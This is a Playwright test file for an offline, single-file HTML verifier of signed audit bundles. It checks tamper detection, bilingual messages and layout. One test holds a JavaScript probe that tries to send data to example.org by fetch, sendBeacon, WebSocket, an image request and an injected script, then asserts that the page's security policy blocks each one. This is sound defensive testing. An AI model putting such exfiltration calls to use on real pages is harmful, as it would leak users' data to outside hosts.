"""The verifier with a window: one file, opened from the disk, without any network."""

import base64
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from msgspec.structs import replace
from playwright.sync_api import Browser, Page, expect

from sunseal.web import assets
from sunseal_crypto import canonical
from tests.auditor import story
from tests.auditor.lies import opening
from tests.frontend.test_outside import state
from tests.web.eyes import HEIGHT, inspect

FILE = assets.STATIC / "alone/sunseal-verify.html"
# As a hand does it: all files at once, onto the middle of the page.
DROP = """files => {
  const held = new DataTransfer();
  for (const [name, data] of files) {
    const bytes = Uint8Array.from(atob(data), each => each.charCodeAt(0));
    held.items.add(new File([bytes], name));
  }
  const event = new DragEvent("drop", { dataTransfer: held, bubbles: true, cancelable: true });
  document.querySelector("main").dispatchEvent(event);
}"""
# Every way in which a script could tell somebody else, and what the browser says to it.
TELL = """async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
  await fetch("https://example.org/").catch(() => undefined);
  navigator.sendBeacon("https://example.org/", "x");
  try { new WebSocket("wss://example.org/"); } catch { }
  document.body.append(Object.assign(new Image(), { src: "https://example.org/x" }));
  document.body.append(Object.assign(document.createElement("script"), { text: "window.x = 1" }));
  await new Promise(done => setTimeout(done, 200));
  return [window.x, ...refused.sort()];
}"""


class Unplugged:
    """A browser without a network, and whatever it asked for all the same."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.errors: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url.partition(":")[0]))
        page.on("console", lambda said: self.errors.append(said.text))
        page.on("pageerror", lambda error: self.errors.append(str(error)))

    def verify(self, parts: story.Parts, **more: bytes) -> None:
        files = {"bundle.zip": parts.file().getvalue(), "roster.json": story.made().roster, **more}
        spelled = [[name, base64.b64encode(data).decode()] for name, data in files.items()]
        self.page.evaluate(DROP, spelled)
        self.page.click("#go")
        expect(self.page.locator("#facts dd").first).to_be_visible(timeout=60_000)


@contextmanager
def opened(browser: Browser, language: str) -> Iterator[Unplugged]:
    context = browser.new_context(
        offline=True,
        locale="zh-CN" if language == "zh" else "en-GB",
        viewport={"width": 1280, "height": HEIGHT},
        reduced_motion="reduce",
    )
    seen = Unplugged(context.new_page())
    seen.page.goto(FILE.as_uri())
    try:
        yield seen
    finally:
        context.close()


def test_a_bundle_is_dragged_onto_it(browser: Browser) -> None:
    told = opening.custodian_lies()
    parts = told.bundle()
    lied = story.spoil(parts, checkpoints=parts.checkpoints[:1])
    # A custodian saw one tick more of the log, an hour before the bundle was made.
    told.tick()
    lied = story.spoil(lied, about=replace(lied.about, made_at=told.now + story.HOUR))
    with opened(browser, "zh") as seen:
        page = seen.page
        inspect(page, "verify-empty-zh-1280")
        seen.verify(lied, state=canonical.encode(state(told, 3)))
        expect(page.locator("#papers-found")).to_contain_text("state")
        expect(page.locator("#said .bad")).to_contain_text("发现 4 处问题")
        failed = page.locator(".checks .fails")
        assert failed.evaluate_all("rows => rows.map(row => row.dataset.check)") == [
            "log",
            "answers",
            "bids",
        ]
        expect(failed.first).to_contain_text("曾共同签署，而这份日志中没有")
        expect(failed.nth(1)).to_contain_text("answer/1/3")
        expect(page.locator(".checks .open")).to_contain_text("没有提供凭证")
        inspect(page, "verify-faults-zh-1280")
        page.click("#language")
        expect(page.locator("#said .bad")).to_contain_text("4 faults were found")
        page.set_viewport_size({"width": 390, "height": HEIGHT})
        inspect(page, "verify-faults-en-390")
        assert set(seen.asked) == {"file", "blob"}, seen.asked
        assert seen.errors == []


def test_what_is_no_bundle_is_not_called_checked(browser: Browser) -> None:
    with opened(browser, "en") as seen:
        page = seen.page
        files = [["roster.json", base64.b64encode(story.made().roster).decode()]]
        page.evaluate(DROP, [*files, ["b.zip", base64.b64encode(b"PK nothing").decode()]])
        page.click("#go")
        expect(page.locator("#said .bad")).to_contain_text("Nothing was checked")
        expect(page.locator("#result")).to_be_hidden()


def test_what_is_no_annex_and_no_state_is_refused_at_once(browser: Browser) -> None:
    with opened(browser, "en") as seen:
        for kind in ("annex", "log-state"):
            data = f'{{"version":"sunseal/{kind}/v1"}}'.encode()
            seen.page.evaluate(DROP, [[f"{kind}.json", base64.b64encode(data).decode()]])
            expect(seen.page.locator("#said .bad")).to_contain_text(f"{kind}.json cannot be used")
            expect(seen.page.locator("#papers-found")).to_be_hidden()


def test_it_can_tell_nobody(browser: Browser) -> None:
    with opened(browser, "en") as seen:
        ran, *refused = seen.page.evaluate(TELL)
        assert ran is None
        assert set(refused) == {"connect-src", "img-src", "script-src-elem"}
        assert refused.count("connect-src") >= 2


@pytest.mark.slow
def test_an_honest_bundle_holds_in_every_language_and_width(
    browser: Browser, tmp_path: Path
) -> None:
    bundle, roster = tmp_path / "bundle.zip", tmp_path / "roster.json"
    bundle.write_bytes(story.told().bundle().file().getvalue())
    roster.write_bytes(story.made().roster)
    for language in ("zh", "en"):
        with opened(browser, language) as seen:
            # By the fields this time, as somebody with a keyboard does.
            seen.page.set_input_files("#bundle", bundle)
            seen.page.set_input_files("#roster", roster)
            seen.page.press("#go", "Enter")
            good = seen.page.locator("#said .good")
            expect(good).to_be_visible(timeout=60_000)
            expect(good).to_contain_text("15")
            for width in (1280, 390):
                seen.page.set_viewport_size({"width": width, "height": HEIGHT})
                inspect(seen.page, f"verify-good-{language}-{width}")
